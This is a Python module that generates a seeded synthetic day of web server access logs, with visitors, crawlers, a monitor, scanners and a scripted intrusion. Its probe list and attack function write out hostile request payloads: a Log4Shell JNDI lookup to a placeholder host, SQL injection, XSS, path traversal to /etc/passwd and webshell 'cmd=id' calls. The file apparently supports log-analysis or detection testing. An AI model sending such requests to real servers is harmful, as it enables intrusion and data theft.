"""A day of a public web server, from a seed: people, crawlers, monitors, and the background noise of the internet."""

from collections.abc import Iterator, Sequence
from datetime import UTC, datetime, timedelta
from random import Random

MIDNIGHT = datetime(2026, 3, 1, tzinfo=UTC)
BROWSERS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15",
)
CRAWLERS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
)
PAGES = (
    "/", "/shop", "/shop?q=select+a+gift", "/search?q=union+of+artists", "/docs/.env.example", "/docs/sql/select-from",
    "/cart", "/blog/drop-table-lamps", "/wp-content/uploads/2026/02/photo.jpg", "/wp-json/wp/v2/posts", "/feed",
    "/search?q=O%27Brien+or+sons", "/account?next=%2Forders", "/a/../style.css", "/data.json?fields=id|name",
)  # fmt: skip
PROBES = (
    "/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php", "/phpmyadmin/",
    "/vendor/phpunit/src/Util/PHP/eval-stdin.php",
    "/boaform/admin/formLogin", "/cgi-bin/luci/;stok=/locale", "/actuator/env", "/shell.php?cmd=id", "/backup.zip",
    "/?x=$%7Bjndi:ldap://203.0.113.66/a%7D", "/manager/html", "/owa/auth/x.js", "/login.action", "/HNAP1/",
    "/index.php?s=/Index/%5Cthink%5Capp/invokefunction", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/uploads/x.php?cmd=id",
    "/p?id=1%27%20OR%201=1--", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E", "/download?file=../../../../etc/passwd",
)  # fmt: skip


def line(
    moment: datetime, ip: str, target: str, status: int, agent: str, *, method: str = "GET", size: int = 5120
) -> str:
    """One request in Combined log format."""
    return f'{ip} - - [{moment:%d/%b/%Y:%H:%M:%S} +0000] "{method} {target} HTTP/1.1" {status} {size} "-" "{agent}"'


def a_day(seed: int) -> list[str]:
    """Some twelve hundred requests, in order; nothing of it is worth a person's night."""
    chance = Random(seed)
    lines = [*_people(chance), *_machines(chance), *_scans(chance)]
    return [text for _, text in sorted(lines)]


def _at(chance: Random) -> datetime:
    return MIDNIGHT + timedelta(seconds=chance.randrange(86_000))


def _people(chance: Random) -> Iterator[tuple[datetime, str]]:
    """They read, search, mistype their passwords, and follow a dead link now and then."""
    for visitor in range(40):
        ip, agent, moment = f"198.51.100.{visitor}", chance.choice(BROWSERS), _at(chance)
        for _ in range(chance.randrange(5, 15)):
            moment += timedelta(seconds=chance.randrange(1, 40))
            yield moment, line(moment, ip, chance.choice(PAGES), chance.choice((200, 200, 200, 304, 404)), agent)
        for attempt in range(chance.choice((0, 0, 1, 3))):
            moment += timedelta(seconds=8)
            status = 302 if attempt == 2 else 200
            yield moment, line(moment, ip, "/wp-login.php", status, agent, method="POST")


def _machines(chance: Random) -> Iterator[tuple[datetime, str]]:
    """Crawlers, a monitor every ten minutes, a slow backend now and then."""
    for _ in range(150):
        moment = _at(chance)
        yield (
            moment,
            line(moment, "192.0.2.66", chance.choice(PAGES), chance.choice((200, 404)), chance.choice(CRAWLERS)),
        )
    for minute in range(0, 1440, 10):
        moment = MIDNIGHT + timedelta(minutes=minute)
        yield moment, line(moment, "192.0.2.20", "/health", 200, "check_http/v2.3.3 (monitoring-plugins 2.3.3)", size=2)
    for _ in range(20):
        moment = _at(chance)
        yield moment, line(moment, "198.51.100.7", "/cart", 502, BROWSERS[0])


def _scans(chance: Random) -> Iterator[tuple[datetime, str]]:
    """Twenty scanners, of which some guess passwords; what they ask for is not there."""
    for scanner in range(20):
        ip, moment = f"203.0.113.{scanner}", _at(chance)
        agent = chance.choice(("Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0", "Hello, World", *BROWSERS))
        for target in chance.sample(PROBES, chance.randrange(3, len(PROBES))):
            moment += timedelta(seconds=chance.randrange(1, 5))
            yield moment, line(moment, ip, target, chance.choice((404, 404, 403, 301)), agent, size=162)
        if scanner % 5 == 0:
            for _ in range(60):
                moment += timedelta(seconds=2)
                yield moment, line(moment, ip, "/wp-login.php", 200, agent, method="POST")


def an_attack(ip: str, start: datetime) -> Sequence[str]:
    """Somebody looks around, finds an open repository and a hole, guesses a password and leaves a webshell."""
    steps = [("GET", f"/old{n}/", 404, 162) for n in range(30)]
    steps += [("GET", "/p?id=1%27%20OR%201=1--", 500, 700), ("GET", "/.git/config", 200, 265)]
    steps += [("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 200, 1832)]
    steps += [("POST", "/wp-login.php", 200, 7000)] * 25 + [("POST", "/wp-login.php", 302, 0)]
    steps += [("GET", "/wp-content/uploads/x.php?cmd=id", 200, 54)] * 3
    return [
        line(start + timedelta(seconds=5 * at), ip, target, status, BROWSERS[0], method=method, size=size)
        for at, (method, target, status, size) in enumerate(steps)
    ]
